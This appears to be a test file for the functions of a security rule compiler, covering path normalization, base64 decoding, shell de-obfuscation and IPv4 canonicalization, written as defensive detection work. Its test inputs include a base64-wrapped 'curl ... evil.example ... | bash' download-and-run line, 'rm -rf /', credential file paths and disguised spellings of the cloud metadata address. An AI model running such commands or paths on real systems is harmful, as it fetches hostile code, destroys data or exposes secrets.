import t from 'tap';
import { appendBase64Decoded, basenameOf, canonicalIpv4, dirnameOf, FUNCTIONS, normalizePath, squashCommand } from '../../../src/rules/compiler/functions/index.js';
import { eventFromCase } from '../../../src/rules/index.js';

// Calls a built-in through its compiled form, as a rule would.
const call = (name: string, ...args: unknown[]) => FUNCTIONS.get(name)!.compile(args.map((a) => () => a as never))(eventFromCase({}));

t.test('signatures: every built-in, its parameters and result type', async (t) => {
  t.same(
    [...FUNCTIONS.values()].map((f) => `${f.name}(${f.params.join(', ')}${f.rest ? `, …${f.rest}` : ''}) → ${f.returns}`),
    [
      'lower(string) → string',
      'upper(string) → string',
      'len(any) → number',
      'basename(string) → string',
      'dirname(string) → string',
      'normpath(string) → string',
      'b64decode(string) → string',
      'host(string) → string',
      'ipaddr(string) → string',
      'squash(string) → string',
      'concat(any, any, …any) → string',
    ],
  );
});

t.test('lower, upper, len', async (t) => {
  t.equal(call('lower', 'CuRL'), 'curl');
  t.equal(call('upper', 'CuRL'), 'CURL');
  t.equal(call('len', 'héllo'), 5);
  t.equal(call('len', ['a', 'b']), 2, 'a list attribute counts its elements');
  t.equal(call('len', 42), 2, 'a number counts its digits');
  for (const name of ['lower', 'upper', 'len', 'basename', 'dirname', 'normpath', 'b64decode', 'host', 'squash']) {
    t.equal(call(name, undefined), undefined, `${name} of an absent value is absent`);
    t.equal(call(name, ''), undefined, `${name} of '' is absent`);
  }
});

t.test('normpath resolves ., .., repeated separators and backslashes', async (t) => {
  const cases: [string, string][] = [
    ['/etc/./shadow', '/etc/shadow'],
    ['//etc/shadow', '/etc/shadow'],
    ['///etc//shadow', '/etc/shadow'],
    ['/tmp/../etc/shadow', '/etc/shadow'],
    ['/../../etc/shadow', '/etc/shadow'],
    ['/home/u/../../etc/./sudoers', '/etc/sudoers'],
    ['C:\\Users\\u\\..\\Admin\\.ssh\\id_rsa', 'C:/Users/Admin/.ssh/id_rsa'],
    ['a/b/../c', 'a/c'],
    ['../x', '../x'],
  ];
  for (const [input, expected] of cases) t.equal(normalizePath(input), expected, input);
  t.equal(call('normpath', '/etc/./shadow'), '/etc/shadow');
});

t.test('basename and dirname, with / or \\', async (t) => {
  t.equal(basenameOf('/home/u/.ssh/id_rsa'), 'id_rsa');
  t.equal(basenameOf('C:\\Users\\u\\file.txt'), 'file.txt');
  t.equal(basenameOf('/etc/'), 'etc');
  t.equal(dirnameOf('/home/u/.ssh/id_rsa'), '/home/u/.ssh');
  t.equal(dirnameOf('C:\\Users\\u\\file.txt'), 'C:/Users/u');
  t.equal(dirnameOf('file'), '.');
  t.equal(call('basename', '/a/b'), 'b');
  t.equal(call('dirname', '/a/b'), '/a');
});

t.test('b64decode appends every decoded base64 run of 16+ characters', async (t) => {
  const payload = Buffer.from('curl -s http://evil.example/x.sh | bash').toString('base64');
  const wrapped = `echo ${payload} | base64 -d | sh`;
  const decoded = appendBase64Decoded(wrapped);
  t.ok(decoded.startsWith(wrapped), 'the original text comes first');
  t.match(decoded, /\ncurl -s http:\/\/evil\.example\/x\.sh \| bash/);
  t.equal(appendBase64Decoded('echo aGVsbG8= | base64 -d'), 'echo aGVsbG8= | base64 -d', 'runs under 16 characters are left alone');
  const urlSafe = Buffer.from('rm -rf / --no-preserve-root').toString('base64url');
  t.match(appendBase64Decoded(`x=${urlSafe}`), /rm -rf \/ --no-preserve-root/, 'the URL-safe alphabet too');
  const two = [Buffer.from('first payload here!').toString('base64'), Buffer.from('second payload here').toString('base64')];
  t.match(appendBase64Decoded(two.join(' ')), /first payload here!\nsecond payload here$/, 'every run, in order');
  t.equal(call('b64decode', wrapped), decoded);
});

t.test('host: the lowercased host of a URL', async (t) => {
  t.equal(call('host', 'https://User@Evil.COM:8443/x'), 'evil.com');
  t.equal(call('host', 'http://[::1]:80/'), '::1');
  t.equal(call('host', 'example.org/path'), 'example.org');
  t.equal(call('host', '://'), undefined);
});

t.test('squash: the form shell obfuscation cannot vary', async (t) => {
  t.equal(squashCommand('C"u"rl  -s'), 'curl -s');
  t.equal(squashCommand("c'u'r''l\t-s   http://x"), 'curl -s http://x');
  t.equal(squashCommand('c\\u\\rl -s'), 'curl -s', 'backslash escapes');
  t.equal(squashCommand('curl \\\n  -s http://x'), 'curl -s http://x', 'line continuations');
  t.equal(squashCommand('  W`g`et  '), 'wget');
  t.equal(call('squash', 'C"u"rl  -s'), 'curl -s');
});

t.test('concat joins present values with a space', async (t) => {
  t.equal(call('concat', 'a', 'b', 3), 'a b 3');
  t.equal(call('concat', 'a', undefined, ''), 'a');
  t.equal(call('concat', undefined, undefined), undefined);
});

t.test('ipaddr: every IPv4 spelling the C library accepts reads as its dotted quad', async (t) => {
  for (const spelling of ['169.254.169.254', '2852039166', '0xa9fea9fe', '0xA9.0xFE.0xA9.0xFE', '0251.0376.0251.0376', '169.254.43518', '169.16689662', '::ffff:169.254.169.254', '[::ffff:169.254.169.254]']) {
    t.equal(canonicalIpv4(spelling), '169.254.169.254', spelling);
  }
  for (const other of ['metadata.google.internal', '256.1.1.1', '1.2.3.4.5', '09.1.1.1', 'fd00:ec2::254', '4294967296']) t.equal(canonicalIpv4(other), other, `${other} is no IPv4 spelling`);
  t.equal(call('ipaddr', undefined), undefined);
});
